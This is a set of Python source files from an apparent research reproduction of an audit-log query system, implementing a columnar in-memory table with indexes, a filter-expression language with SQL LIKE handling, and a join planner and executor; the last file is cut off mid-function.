    def column_names(self) -> tuple[str, ...]:
        return tuple(column.name for column in self.columns)

    def validate_row(self, row: Mapping[str, Any]) -> Row:
        """Validate and normalise a row against the schema.

        Unknown columns raise; missing nullable columns become ``None``.

        Raises:
            SchemaError: on unknown columns, missing non-nullable columns, or
                type mismatches.
        """
        known = {column.name: column for column in self.columns}
        unknown = set(row) - set(known)
        if unknown:
            raise SchemaError(
                f"table {self.name!r}: unknown column(s) {sorted(unknown)}"
            )
        normalised: Row = {}
        for column in self.columns:
            if column.name in row:
                value = row[column.name]
            elif column.nullable:
                value = None
            else:
                raise SchemaError(
                    f"table {self.name!r}: missing value for column {column.name!r}"
                )
            if value is not None and column.dtype is not None and not isinstance(value, column.dtype):
                # bool is an int subclass; allow int columns to accept bools but
                # reject e.g. str-in-int.
                raise SchemaError(
                    f"table {self.name!r}: column {column.name!r} expects "
                    f"{column.dtype.__name__}, got {type(value).__name__}"
                )
            normalised[column.name] = value
        return normalised


class Table:
    """An in-memory columnar table with secondary indexes.

    Rows are stored append-only; the audit-log workload never updates or
    deletes individual rows (a whole trace is reloaded instead), which is also
    how the paper's deployment uses PostgreSQL.  Each column lives in its own
    parallel array, so filters and join-key extraction touch only the columns
    they need.
    """

    def __init__(self, schema: TableSchema) -> None:
        self.schema = schema
        self._column_names: tuple[str, ...] = schema.column_names()
        self._columns: dict[str, list[Any]] = {name: [] for name in self._column_names}
        self._row_count = 0
        self._hash_indexes: dict[str, HashIndex] = {}
        self._sorted_indexes: dict[str, SortedIndex] = {}

    # -- schema / indexes ----------------------------------------------------

    @property
    def name(self) -> str:
        return self.schema.name

    def create_hash_index(self, column: str) -> None:
        """Create (and backfill) a hash index on ``column``."""
        self._require_column(column)
        if column in self._hash_indexes:
            return
        index = HashIndex(column)
        for position, value in enumerate(self._columns[column]):
            index.insert(value, position)
        self._hash_indexes[column] = index

    def create_sorted_index(self, column: str) -> None:
        """Create (and backfill) a sorted index on ``column``."""
        self._require_column(column)
        if column in self._sorted_indexes:
            return
        index = SortedIndex(column)
        for position, value in enumerate(self._columns[column]):
            index.insert(value, position)
        self._sorted_indexes[column] = index

    def hash_indexed_columns(self) -> set[str]:
        return set(self._hash_indexes)

    def sorted_indexed_columns(self) -> set[str]:
        return set(self._sorted_indexes)

    def _require_column(self, column: str) -> None:
        if column not in self._columns:
            raise SchemaError(f"table {self.name!r} has no column {column!r}")

    # -- mutation ------------------------------------------------------------

    def insert(self, row: Mapping[str, Any]) -> int:
        """Insert one row; returns its position."""
        normalised = self.schema.validate_row(row)
        position = self._row_count
        for name in self._column_names:
            self._columns[name].append(normalised[name])
        self._row_count = position + 1
        for column, hash_index in self._hash_indexes.items():
            hash_index.insert(normalised[column], position)
        for column, sorted_index in self._sorted_indexes.items():
            sorted_index.insert(normalised[column], position)
        return position

    def insert_many(self, rows: Iterable[Mapping[str, Any]]) -> int:
        """Insert many rows; returns the number inserted."""
        count = 0
        for row in rows:
            self.insert(row)
            count += 1
        return count

    # -- positional access (columnar hot path) --------------------------------

    def __len__(self) -> int:
        return self._row_count

    def column_array(self, column: str) -> Sequence[Any] | None:
        """The live value array for ``column`` (``None`` if absent).

        The array aliases table storage — callers must treat it as read-only.
        It grows in place on insert, so positions obtained earlier stay valid.
        """
        return self._columns.get(column)

    def column_store(self) -> Mapping[str, Sequence[Any]]:
        """All column arrays, keyed by name (read-only alias of storage)."""
        return self._columns

    def all_positions(self) -> range:
        """Every row position, in storage order."""
        return range(self._row_count)

    def positions_equal(self, column: str, value: Any) -> Sequence[int]:
        """Positions whose ``column`` equals ``value`` (index-assisted).

        When a hash index serves the lookup the returned sequence aliases
        index state (zero-copy hot path) — callers must treat it as
        read-only; use ``list(...)`` before mutating.
        """
        hash_index = self._hash_indexes.get(column)
        if hash_index is not None:
            return hash_index.bucket(value)
        sorted_index = self._sorted_indexes.get(column)
        if sorted_index is not None:
            return sorted_index.lookup(value)
        array = self._columns.get(column)
        if array is None:
            return ()
        return [position for position, stored in enumerate(array) if stored == value]

    def positions_in(self, column: str, values: Iterable[Any]) -> Sequence[int]:
        """Positions whose ``column`` is one of ``values`` (deduplicated)."""
        hash_index = self._hash_indexes.get(column)
        if hash_index is not None:
            return hash_index.lookup_many(values)
        array = self._columns.get(column)
        if array is None:
            return ()
        allowed = set(values)
        return [position for position, stored in enumerate(array) if stored in allowed]

    def positions_range(
        self, column: str, low: Any = None, high: Any = None
    ) -> Sequence[int]:
        """Positions whose ``column`` lies in ``[low, high]`` (inclusive)."""
        sorted_index = self._sorted_indexes.get(column)
        if sorted_index is not None:
            return list(sorted_index.range(low, high))
        array = self._columns.get(column)
        if array is None:
            return ()
        matched: list[int] = []
        for position, value in enumerate(array):
            if value is None:
                continue
            if low is not None and value < low:
                continue
            if high is not None and value > high:
                continue
            matched.append(position)
        return matched

    def filter_positions(
        self, predicate: Expression | None, positions: Sequence[int] | None = None
    ) -> list[int]:
        """Vectorized predicate evaluation over candidate positions.

        ``positions=None`` means every row; ``predicate=None`` means no
        filtering.
        """
        if predicate is None:
            return list(self.all_positions()) if positions is None else list(positions)
        return filter_positions(self._columns, self._row_count, predicate, positions)

    # -- dict-row access (compatibility layer) --------------------------------

    def row_at(self, position: int) -> Row:
        """The row stored at ``position``, materialized as a dict."""
        columns = self._columns
        return {name: columns[name][position] for name in self._column_names}

    def rows_at(self, positions: Iterable[int]) -> Iterator[Row]:
        """Materialize the rows at ``positions`` as dicts, in order."""
        columns = [self._columns[name] for name in self._column_names]
        names = self._column_names
        for position in positions:
            yield {name: column[position] for name, column in zip(names, columns)}

    def scan(self, predicate: Expression | None = None) -> Iterator[Row]:
        """Full scan, optionally filtered by ``predicate``."""
        yield from self.rows_at(self.filter_positions(predicate))

    def lookup_equal(
        self, column: str, value: Any, residual: Expression | None = None
    ) -> Iterator[Row]:
        """Index-assisted equality lookup with optional residual filter.

        Falls back to a vectorized scan when no usable index exists.
        """
        positions = self.positions_equal(column, value)
        yield from self.rows_at(self.filter_positions(residual, positions))

    def lookup_in(
        self, column: str, values: Iterable[Any], residual: Expression | None = None
    ) -> Iterator[Row]:
        """Index-assisted membership lookup with optional residual filter."""
        positions = self.positions_in(column, values)
        yield from self.rows_at(self.filter_positions(residual, positions))

    def lookup_range(
        self,
        column: str,
        low: Any = None,
        high: Any = None,
        residual: Expression | None = None,
    ) -> Iterator[Row]:
        """Index-assisted range lookup with optional residual filter."""
        positions = self.positions_range(column, low=low, high=high)
        yield from self.rows_at(self.filter_positions(residual, positions))

    # -- statistics ------------------------------------------------------------

    def estimate_selectivity(self, column: str) -> float:
        """Rough fraction of rows matched by an equality predicate on ``column``.

        Uses the hash index's distinct-value count when available, otherwise a
        pessimistic constant.  The planner uses this to order joins.
        """
        if not self._row_count:
            return 0.0
        index = self._hash_indexes.get(column)
        if index is not None and index.distinct_values():
            return 1.0 / index.distinct_values()
        return 0.1

    def statistics(self) -> dict[str, Any]:
        """Summary statistics for EXPLAIN output and tests."""
        return {
            "name": self.name,
            "rows": self._row_count,
            "hash_indexes": sorted(self._hash_indexes),
            "sorted_indexes": sorted(self._sorted_indexes),
        }
