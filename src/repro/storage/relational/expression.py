"""Filter expressions evaluated by the relational engine.

The relational backend needs a small but complete expression language to
express TBQL attribute filters after compilation: comparisons (including SQL
``LIKE`` with ``%`` wildcards), boolean combinators, membership tests and
column-to-column comparisons for join conditions.  Expressions are plain
objects with an ``evaluate(row)`` method plus enough introspection for the
planner to extract indexable predicates and for the SQL generator to render
text.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any, Iterable, Mapping, Sequence

from repro.errors import QueryError

Row = Mapping[str, Any]

LIKE_ESCAPE_CHAR = "\\"


def escape_like(value: str) -> str:
    """Escape a literal string for use inside a ``LIKE`` pattern.

    Backslash is the escape character: ``\\%``, ``\\_`` and ``\\\\`` denote a
    literal percent, underscore and backslash.  The convention is honored
    identically by :meth:`Like.evaluate` and the SQL renderers (which emit an
    ``ESCAPE '\\'`` clause whenever the pattern contains an escape).
    """
    return (
        value.replace(LIKE_ESCAPE_CHAR, LIKE_ESCAPE_CHAR * 2)
        .replace("%", LIKE_ESCAPE_CHAR + "%")
        .replace("_", LIKE_ESCAPE_CHAR + "_")
    )


def like_tokens(pattern: str) -> list[tuple[bool, str]]:
    """Tokenize a ``LIKE`` pattern into ``(is_wildcard, char)`` pairs.

    The parse is lenient: a backslash followed by ``%``, ``_`` or ``\\``
    escapes that character; any other backslash is an ordinary literal (so
    untouched Windows paths keep matching).  Wildcard tokens are ``%`` (any
    run) and ``_`` (any one character).
    """
    tokens: list[tuple[bool, str]] = []
    index = 0
    while index < len(pattern):
        char = pattern[index]
        if (
            char == LIKE_ESCAPE_CHAR
            and index + 1 < len(pattern)
            and pattern[index + 1] in ("%", "_", LIKE_ESCAPE_CHAR)
        ):
            tokens.append((False, pattern[index + 1]))
            index += 2
            continue
        tokens.append((char in ("%", "_"), char))
        index += 1
    return tokens


def like_has_wildcards(pattern: str) -> bool:
    """True when the pattern contains an unescaped ``%`` or ``_`` wildcard."""
    return any(is_wildcard for is_wildcard, _ in like_tokens(pattern))


def unescape_like(pattern: str) -> str:
    """The literal text of a wildcard-free ``LIKE`` pattern (escapes removed)."""
    return "".join(char for _, char in like_tokens(pattern))


def canonical_like_pattern(pattern: str) -> str:
    """Re-emit a pattern in strict canonical form from its parsed tokens.

    Literal ``%``, ``_`` and ``\\`` characters come out backslash-escaped and
    everything else bare, so the result is unambiguous regardless of how
    lenient the input spelling was.  SQL renderers emit this form (with an
    ``ESCAPE`` clause when it contains a backslash) so sqlite's strict escape
    semantics agree with :meth:`Like.evaluate`.
    """
    out: list[str] = []
    for is_wildcard, char in like_tokens(pattern):
        if not is_wildcard and char in ("%", "_", LIKE_ESCAPE_CHAR):
            out.append(LIKE_ESCAPE_CHAR + char)
        else:
            out.append(char)
    return "".join(out)


class Expression:
    """Base class for all filter expressions."""

    def evaluate(self, row: Row) -> Any:
        """Evaluate the expression against one row."""
        raise NotImplementedError

    def columns(self) -> set[str]:
        """All column names referenced by the expression."""
        return set()

    def to_sql(self) -> str:
        """Render the expression as SQL text (used for query explanation)."""
        raise NotImplementedError

    # -- combinators -------------------------------------------------------

    def __and__(self, other: "Expression") -> "Expression":
        return And([self, other])

    def __or__(self, other: "Expression") -> "Expression":
        return Or([self, other])

    def __invert__(self) -> "Expression":
        return Not(self)


@dataclass(frozen=True)
class Column(Expression):
    """Reference to a column of the current row."""

    name: str

    def evaluate(self, row: Row) -> Any:
        try:
            return row[self.name]
        except KeyError:
            raise QueryError(f"row has no column {self.name!r}") from None

    def columns(self) -> set[str]:
        return {self.name}

    def to_sql(self) -> str:
        return self.name


@dataclass(frozen=True)
class Literal(Expression):
    """A constant value."""

    value: Any

    def evaluate(self, row: Row) -> Any:
        return self.value

    def to_sql(self) -> str:
        if isinstance(self.value, str):
            escaped = self.value.replace("'", "''")
            return f"'{escaped}'"
        if self.value is None:
            return "NULL"
        return str(self.value)


_COMPARATORS = {
    "=": lambda a, b: a == b,
    "!=": lambda a, b: a != b,
    "<": lambda a, b: a < b,
    "<=": lambda a, b: a <= b,
    ">": lambda a, b: a > b,
    ">=": lambda a, b: a >= b,
}


@dataclass(frozen=True)
class Comparison(Expression):
    """A binary comparison between two sub-expressions."""

    left: Expression
    operator: str
    right: Expression

    def __post_init__(self) -> None:
        if self.operator not in _COMPARATORS:
            raise QueryError(f"unsupported comparison operator {self.operator!r}")

    def evaluate(self, row: Row) -> bool:
        left = self.left.evaluate(row)
        right = self.right.evaluate(row)
        if left is None or right is None:
            return False
        # Mixed numeric/string operands (e.g. an int column compared against a
        # string literal) are compared as strings, mirroring lenient SQL casts.
        if isinstance(left, str) != isinstance(right, str):
            left, right = str(left), str(right)
        try:
            return bool(_COMPARATORS[self.operator](left, right))
        except TypeError:
            return bool(_COMPARATORS[self.operator](str(left), str(right)))

    def columns(self) -> set[str]:
        return self.left.columns() | self.right.columns()

    def to_sql(self) -> str:
        return f"{self.left.to_sql()} {self.operator} {self.right.to_sql()}"


@dataclass(frozen=True)
class Like(Expression):
    """SQL ``LIKE`` with ``%`` (any run) and ``_`` (any one char) wildcards."""

    operand: Expression
    pattern: str
    negate: bool = False

    def _regex(self) -> re.Pattern[str]:
        # Build the regex from parsed tokens so backslash-escaped wildcards
        # (``\%``, ``\_``, ``\\``) match literally while bare ``%``/``_``
        # translate to their regex equivalents.
        parts: list[str] = []
        for is_wildcard, char in like_tokens(self.pattern):
            if is_wildcard:
                parts.append(".*" if char == "%" else ".")
            else:
                parts.append(re.escape(char))
        return re.compile(f"^{''.join(parts)}$", re.IGNORECASE)

    def evaluate(self, row: Row) -> bool:
        value = self.operand.evaluate(row)
        if value is None:
            return False
        matched = bool(self._regex().match(str(value)))
        return not matched if self.negate else matched

    def columns(self) -> set[str]:
        return self.operand.columns()

    def to_sql(self) -> str:
        keyword = "NOT LIKE" if self.negate else "LIKE"
        canonical = canonical_like_pattern(self.pattern)
        escaped = canonical.replace("'", "''")
        rendered = f"{self.operand.to_sql()} {keyword} '{escaped}'"
        if LIKE_ESCAPE_CHAR in canonical:
            rendered += f" ESCAPE '{LIKE_ESCAPE_CHAR}'"
        return rendered


@dataclass(frozen=True)
class InList(Expression):
    """Membership test against a list of constant values."""

    operand: Expression
    values: tuple[Any, ...]
    negate: bool = False

    def evaluate(self, row: Row) -> bool:
        value = self.operand.evaluate(row)
        contained = value in self.values
        return not contained if self.negate else contained

    def columns(self) -> set[str]:
        return self.operand.columns()

    def to_sql(self) -> str:
        if not self.values:
            # ``IN ()`` is a SQL syntax error; the empty membership test is
            # vacuously false (true when negated).
            return "1=1" if self.negate else "1=0"
        keyword = "NOT IN" if self.negate else "IN"
        rendered = ", ".join(Literal(value).to_sql() for value in self.values)
        return f"{self.operand.to_sql()} {keyword} ({rendered})"


@dataclass(frozen=True)
class Between(Expression):
    """Inclusive range test, used for time-window filters."""

    operand: Expression
    low: Any
    high: Any

    def evaluate(self, row: Row) -> bool:
        value = self.operand.evaluate(row)
        if value is None:
            return False
        return self.low <= value <= self.high

    def columns(self) -> set[str]:
        return self.operand.columns()

    def to_sql(self) -> str:
        return (
            f"{self.operand.to_sql()} BETWEEN {Literal(self.low).to_sql()} "
            f"AND {Literal(self.high).to_sql()}"
        )


class And(Expression):
    """Logical conjunction of sub-expressions."""

    def __init__(self, operands: Iterable[Expression]) -> None:
        self.operands: tuple[Expression, ...] = tuple(operands)

    def evaluate(self, row: Row) -> bool:
        return all(operand.evaluate(row) for operand in self.operands)

    def columns(self) -> set[str]:
        referenced: set[str] = set()
        for operand in self.operands:
            referenced |= operand.columns()
        return referenced

    def flattened(self) -> list[Expression]:
        """Conjuncts with nested ``And`` nodes expanded (for the planner)."""
        conjuncts: list[Expression] = []
        for operand in self.operands:
            if isinstance(operand, And):
                conjuncts.extend(operand.flattened())
            else:
                conjuncts.append(operand)
        return conjuncts

    def to_sql(self) -> str:
        return " AND ".join(f"({operand.to_sql()})" for operand in self.operands)

    def __repr__(self) -> str:
        return f"And({list(self.operands)!r})"


class Or(Expression):
    """Logical disjunction of sub-expressions."""

    def __init__(self, operands: Iterable[Expression]) -> None:
        self.operands: tuple[Expression, ...] = tuple(operands)

    def evaluate(self, row: Row) -> bool:
        return any(operand.evaluate(row) for operand in self.operands)

    def columns(self) -> set[str]:
        referenced: set[str] = set()
        for operand in self.operands:
            referenced |= operand.columns()
        return referenced

    def to_sql(self) -> str:
        return " OR ".join(f"({operand.to_sql()})" for operand in self.operands)

    def __repr__(self) -> str:
        return f"Or({list(self.operands)!r})"


@dataclass(frozen=True)
class Not(Expression):
    """Logical negation."""

    operand: Expression

    def evaluate(self, row: Row) -> bool:
        return not self.operand.evaluate(row)

    def columns(self) -> set[str]:
        return self.operand.columns()

    def to_sql(self) -> str:
        return f"NOT ({self.operand.to_sql()})"


@dataclass(frozen=True)
class TrueExpression(Expression):
    """Always-true expression, the identity element for conjunction."""

    def evaluate(self, row: Row) -> bool:
        return True

    def to_sql(self) -> str:
        return "TRUE"


def conjoin(expressions: Sequence[Expression]) -> Expression:
    """Combine expressions with AND, simplifying the empty/singleton cases."""
    non_trivial = [e for e in expressions if not isinstance(e, TrueExpression)]
    if not non_trivial:
        return TrueExpression()
    if len(non_trivial) == 1:
        return non_trivial[0]
    return And(non_trivial)


def equality_lookups(expression: Expression) -> dict[str, Any]:
    """Extract ``column = literal`` pairs usable for index lookups.

    Only top-level conjuncts are considered; disjunctions are never indexable
    as a whole.  ``LIKE`` patterns without wildcards are treated as equality.
    """
    lookups: dict[str, Any] = {}
    conjuncts = expression.flattened() if isinstance(expression, And) else [expression]
    for conjunct in conjuncts:
        if (
            isinstance(conjunct, Comparison)
            and conjunct.operator == "="
            and isinstance(conjunct.left, Column)
            and isinstance(conjunct.right, Literal)
        ):
            lookups[conjunct.left.name] = conjunct.right.value
        elif (
            isinstance(conjunct, Comparison)
            and conjunct.operator == "="
            and isinstance(conjunct.right, Column)
            and isinstance(conjunct.left, Literal)
        ):
            lookups[conjunct.right.name] = conjunct.left.value
        elif (
            isinstance(conjunct, Like)
            and not conjunct.negate
            and isinstance(conjunct.operand, Column)
            and not like_has_wildcards(conjunct.pattern)
        ):
            lookups[conjunct.operand.name] = unescape_like(conjunct.pattern)
        elif isinstance(conjunct, InList) and not conjunct.negate and len(conjunct.values) == 1:
            if isinstance(conjunct.operand, Column):
                lookups[conjunct.operand.name] = conjunct.values[0]
    return lookups


def membership_lookups(expression: Expression) -> dict[str, tuple[Any, ...]]:
    """Extract ``column IN (v1, v2, ...)`` conjuncts usable for index lookups.

    Multi-value memberships are returned with their full value tuple so the
    planner can estimate their cost as ``len(values)`` index probes.
    """
    lookups: dict[str, tuple[Any, ...]] = {}
    conjuncts = expression.flattened() if isinstance(expression, And) else [expression]
    for conjunct in conjuncts:
        if (
            isinstance(conjunct, InList)
            and not conjunct.negate
            and isinstance(conjunct.operand, Column)
            and conjunct.values
        ):
            lookups[conjunct.operand.name] = conjunct.values
    return lookups


def range_lookups(expression: Expression) -> dict[str, tuple[Any, Any]]:
    """Extract per-column (low, high) bounds from range conjuncts.

    ``None`` in either position means unbounded on that side.  Used by the
    planner to drive sorted-index range scans on timestamps.
    """
    bounds: dict[str, tuple[Any, Any]] = {}

    def update(column: str, low: Any, high: Any) -> None:
        current_low, current_high = bounds.get(column, (None, None))
        if low is not None and (current_low is None or low > current_low):
            current_low = low
        if high is not None and (current_high is None or high < current_high):
            current_high = high
        bounds[column] = (current_low, current_high)

    conjuncts = expression.flattened() if isinstance(expression, And) else [expression]
    for conjunct in conjuncts:
        if isinstance(conjunct, Between) and isinstance(conjunct.operand, Column):
            update(conjunct.operand.name, conjunct.low, conjunct.high)
        elif (
            isinstance(conjunct, Comparison)
            and isinstance(conjunct.left, Column)
            and isinstance(conjunct.right, Literal)
        ):
            column, value = conjunct.left.name, conjunct.right.value
            if conjunct.operator in (">", ">="):
                update(column, value, None)
            elif conjunct.operator in ("<", "<="):
                update(column, None, value)
    return bounds
