"""Planner and executor for relational :class:`SelectQuery` objects.

The execution strategy mirrors what PostgreSQL would do for the join shapes
the TBQL compiler produces (an event table joined with entity tables):

1. **Access path selection** — for each alias, pick an index-assisted access
   path when the pushed-down predicate contains an equality on a hash-indexed
   column or a range on a sorted-indexed column; otherwise a filtered scan.
2. **Join ordering** — start from the alias with the smallest estimated
   cardinality and repeatedly join the connected alias with the smallest
   estimate (a greedy bushy-to-left-deep heuristic, which is adequate for the
   star-shaped joins produced here).
3. **Hash joins** — every join condition is an equi-join, executed by building
   a hash table on the smaller side.
4. Cross-alias residual filters, projection, DISTINCT, ORDER BY and LIMIT are
   applied on the joined rows.

Execution is **columnar**: each alias resolves to a list of row *positions*
(index lookups plus vectorized residual filtering over column arrays), joins
carry tuples of per-alias positions, and join keys / output values are read
straight out of the tables' column arrays.  No intermediate row dicts are
materialized anywhere on the hot path.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Mapping, Sequence

from repro.errors import QueryError
from repro.storage.relational.expression import (
    Expression,
    TrueExpression,
    equality_lookups,
    membership_lookups,
    range_lookups,
)
from repro.storage.relational.query import QueryResult, SelectQuery
from repro.storage.relational.table import Table


@dataclass
class AccessPath:
    """The chosen access path for one alias."""

    alias: str
    table: Table
    kind: str  # "index-eq", "index-in", "index-range" or "scan"
    column: str | None = None
    value: Any = None
    values: tuple[Any, ...] | None = None
    low: Any = None
    high: Any = None
    estimated_rows: float = 0.0

    def describe(self) -> str:
        """Human-readable description used by EXPLAIN output."""
        if self.kind == "index-eq":
            return f"{self.alias}: index lookup {self.column}={self.value!r}"
        if self.kind == "index-in":
            count = len(self.values or ())
            return f"{self.alias}: index lookup {self.column} IN ({count} values)"
        if self.kind == "index-range":
            return f"{self.alias}: index range {self.column} in [{self.low}, {self.high}]"
        return f"{self.alias}: sequential scan"


@dataclass
class ExecutionPlan:
    """The full plan for one query: access paths plus join order."""

    access_paths: dict[str, AccessPath]
    join_order: list[str]

    def describe(self) -> list[str]:
        """EXPLAIN-style lines describing the plan."""
        lines = [self.access_paths[alias].describe() for alias in self.join_order]
        lines.append("join order: " + " -> ".join(self.join_order))
        return lines


class _Relation:
    """An intermediate join result: per-alias row positions, no row dicts.

    ``rows`` holds one tuple of table positions per surviving joined row,
    aligned with ``aliases``; ``slot`` maps an alias to its tuple index.
    """

    __slots__ = ("aliases", "slot", "rows")

    def __init__(self, aliases: tuple[str, ...], rows: list[tuple[int, ...]]) -> None:
        self.aliases = aliases
        self.slot = {alias: index for index, alias in enumerate(aliases)}
        self.rows = rows


class _JoinedRowView(Mapping[str, Any]):
    """Zero-copy qualified-row view (``alias.column`` → value) over a relation.

    Cross-alias residual filters evaluate against this mapping; the value is
    read from the owning table's column array at the row's position.
    """

    __slots__ = ("_fields", "_row")

    def __init__(self, fields: dict[str, tuple[int, Sequence[Any]]]) -> None:
        self._fields = fields
        self._row: tuple[int, ...] = ()

    def rebind(self, row: tuple[int, ...]) -> "_JoinedRowView":
        self._row = row
        return self

    def __getitem__(self, key: str) -> Any:
        slot, array = self._fields[key]
        return array[self._row[slot]]

    def __iter__(self):
        return iter(self._fields)

    def __len__(self) -> int:
        return len(self._fields)


class QueryExecutor:
    """Plans and executes :class:`SelectQuery` objects against a table dict."""

    def __init__(self, tables: dict[str, Table]) -> None:
        self._tables = tables

    # -- planning ----------------------------------------------------------

    def plan(self, query: SelectQuery) -> ExecutionPlan:
        """Produce an execution plan without running the query."""
        if not query.tables:
            raise QueryError("query has no tables")
        access_paths: dict[str, AccessPath] = {}
        for ref in query.tables:
            table = self._tables.get(ref.table)
            if table is None:
                raise QueryError(f"unknown table {ref.table!r}")
            predicate = query.filter_for_alias(ref.alias)
            access_paths[ref.alias] = self._choose_access_path(ref.alias, table, predicate)
        join_order = self._order_joins(query, access_paths)
        return ExecutionPlan(access_paths=access_paths, join_order=join_order)

    def _choose_access_path(
        self, alias: str, table: Table, predicate: Expression
    ) -> AccessPath:
        """Pick the cheapest index-assisted access path for one alias.

        All indexable conjuncts (equalities, IN-lists, ranges) are costed and
        the lowest-estimate candidate wins; a sequential scan is the fallback.
        """
        candidates: list[AccessPath] = []
        has_filter = not isinstance(predicate, TrueExpression)
        equalities = equality_lookups(predicate) if has_filter else {}
        for column, value in equalities.items():
            if column in table.hash_indexed_columns():
                estimate = max(1.0, len(table) * table.estimate_selectivity(column))
                candidates.append(
                    AccessPath(
                        alias=alias,
                        table=table,
                        kind="index-eq",
                        column=column,
                        value=value,
                        estimated_rows=estimate,
                    )
                )
        memberships = membership_lookups(predicate) if has_filter else {}
        for column, values in memberships.items():
            if column in table.hash_indexed_columns():
                per_value = max(1.0, len(table) * table.estimate_selectivity(column))
                candidates.append(
                    AccessPath(
                        alias=alias,
                        table=table,
                        kind="index-in",
                        column=column,
                        values=values,
                        estimated_rows=per_value * len(values),
                    )
                )
        ranges = range_lookups(predicate) if has_filter else {}
        for column, (low, high) in ranges.items():
            if column in table.sorted_indexed_columns():
                candidates.append(
                    AccessPath(
                        alias=alias,
                        table=table,
                        kind="index-range",
                        column=column,
                        low=low,
                        high=high,
                        estimated_rows=max(1.0, len(table) * 0.25),
                    )
                )
        if candidates:
            return min(candidates, key=lambda path: path.estimated_rows)
        selectivity = 1.0 if isinstance(predicate, TrueExpression) else 0.5
        return AccessPath(
            alias=alias,
            table=table,
            kind="scan",
            estimated_rows=max(1.0, len(table) * selectivity),
        )

    def _order_joins(
        self, query: SelectQuery, access_paths: dict[str, AccessPath]
    ) -> list[str]:
        remaining = set(query.aliases())
        if not remaining:
            return []
        # adjacency from join conditions
        adjacency: dict[str, set[str]] = {alias: set() for alias in remaining}
        for join in query.joins:
            left, right = join.aliases()
            adjacency[left].add(right)
            adjacency[right].add(left)

        order: list[str] = []
        # Start with the smallest estimated alias.
        current = min(remaining, key=lambda alias: access_paths[alias].estimated_rows)
        order.append(current)
        remaining.discard(current)
        while remaining:
            connected = {
                alias
                for alias in remaining
                if any(neighbor in order for neighbor in adjacency[alias])
            }
            candidates = connected or remaining
            nxt = min(candidates, key=lambda alias: access_paths[alias].estimated_rows)
            order.append(nxt)
            remaining.discard(nxt)
        return order

    # -- execution ---------------------------------------------------------

    def execute(self, query: SelectQuery) -> QueryResult:
        """Execute ``query`` and return its result set."""
        plan = self.plan(query)
        relation = self._execute_joins(query, plan)

        # Residual cross-alias filters, evaluated over a zero-copy view.
        if query.cross_filters and relation.rows:
            view = _JoinedRowView(self._qualified_fields(query, relation))
            rows = relation.rows
            for predicate in query.cross_filters:
                rows = [row for row in rows if predicate.evaluate(view.rebind(row))]
            relation.rows = rows

        # Projection: read output values straight from the column arrays.
        if query.projection:
            columns = tuple(output.output_name for output in query.projection)
            extractors = [
                self._extractor(relation, output.alias, self._tables[query.table_for_alias(output.alias)], output.column)
                for output in query.projection
            ]
        else:
            columns, extractors = self._all_column_extractors(query, relation)
        projected = [
            tuple(
                array[row[slot]] if array is not None else None
                for slot, array in extractors
            )
            for row in relation.rows
        ]

        if query.distinct:
            seen: set[tuple[Any, ...]] = set()
            unique: list[tuple[Any, ...]] = []
            for row in projected:
                if row not in seen:
                    seen.add(row)
                    unique.append(row)
            projected = unique

        if query.order_by:
            positions = {column: index for index, column in enumerate(columns)}

            def sort_key(row: tuple[Any, ...]) -> tuple[Any, ...]:
                key: list[Any] = []
                for term in query.order_by:
                    qualified = f"{term.alias}.{term.column}"
                    index = positions.get(qualified)
                    value = row[index] if index is not None else None
                    key.append(value)
                return tuple(key)

            reverse = bool(query.order_by and query.order_by[0].descending)
            projected.sort(key=sort_key, reverse=reverse)

        if query.limit is not None:
            projected = projected[: query.limit]

        return QueryResult(columns=columns, rows=tuple(projected))

    def explain(self, query: SelectQuery) -> list[str]:
        """Return EXPLAIN-style plan lines without executing the query."""
        return self.plan(query).describe()

    # -- internals ----------------------------------------------------------

    @staticmethod
    def _extractor(
        relation: _Relation, alias: str, table: Table, column: str
    ) -> tuple[int, Sequence[Any] | None]:
        """(slot, column array) for reading ``alias.column`` out of a relation.

        A ``None`` array means the column does not exist; its value projects
        as NULL, matching the old dict-based ``row.get``.
        """
        slot = relation.slot.get(alias)
        if slot is None:
            return (0, None)
        return (slot, table.column_array(column))

    def _all_column_extractors(
        self, query: SelectQuery, relation: _Relation
    ) -> tuple[tuple[str, ...], list[tuple[int, Sequence[Any] | None]]]:
        columns: list[str] = []
        extractors: list[tuple[int, Sequence[Any] | None]] = []
        for ref in query.tables:
            table = self._tables[ref.table]
            for name in table.schema.column_names():
                columns.append(f"{ref.alias}.{name}")
                extractors.append(self._extractor(relation, ref.alias, table, name))
        return tuple(columns), extractors

    def _qualified_fields(
        self, query: SelectQuery, relation: _Relation
    ) -> dict[str, tuple[int, Sequence[Any]]]:
        """``alias.column`` → (slot, column array) for every joined column."""
        fields: dict[str, tuple[int, Sequence[Any]]] = {}
        for ref in query.tables:
            slot = relation.slot.get(ref.alias)
            if slot is None:
                continue
            table = self._tables[ref.table]
            for name in table.schema.column_names():
                array = table.column_array(name)
                if array is not None:
                    fields[f"{ref.alias}.{name}"] = (slot, array)
        return fields

    def _positions_for_alias(self, query: SelectQuery, path: AccessPath) -> list[int]:
        """Access-path positions, narrowed by the alias's full predicate."""
        predicate = query.filter_for_alias(path.alias)
        residual = None if isinstance(predicate, TrueExpression) else predicate
        if path.kind == "index-eq":
            positions: Sequence[int] | None = path.table.positions_equal(path.column, path.value)
        elif path.kind == "index-in":
            positions = path.table.positions_in(path.column, path.values or ())
        elif path.kind == "index-range":
            positions = path.table.positions_range(path.column, low=path.low, high=path.high)
        else:
            positions = None
        return path.table.filter_positions(residual, positions)

    def _execute_joins(self, query: SelectQuery, plan: ExecutionPlan) -> _Relation:
        order = plan.join_order
        if not order:
            return _Relation((), [])
        alias_tables = {ref.alias: self._tables[ref.table] for ref in query.tables}
        first = plan.access_paths[order[0]]
        relation = _Relation(
            (order[0],),
            [(position,) for position in self._positions_for_alias(query, first)],
        )

        for alias in order[1:]:
            path = plan.access_paths[alias]
            right_positions = self._positions_for_alias(query, path)
            conditions = [
                join
                for join in query.joins
                if (join.left_alias == alias and join.right_alias in relation.slot)
                or (join.right_alias == alias and join.left_alias in relation.slot)
            ]
            relation = self._hash_join(
                relation, alias, path.table, right_positions, conditions, alias_tables
            )
        return relation

    @staticmethod
    def _hash_join(
        left: _Relation,
        right_alias: str,
        right_table: Table,
        right_positions: list[int],
        conditions: list,
        alias_tables: dict[str, Table],
    ) -> _Relation:
        aliases = left.aliases + (right_alias,)
        if not conditions:
            # Cartesian product (rare: disconnected patterns).
            rows = [
                row + (position,) for row in left.rows for position in right_positions
            ]
            return _Relation(aliases, rows)

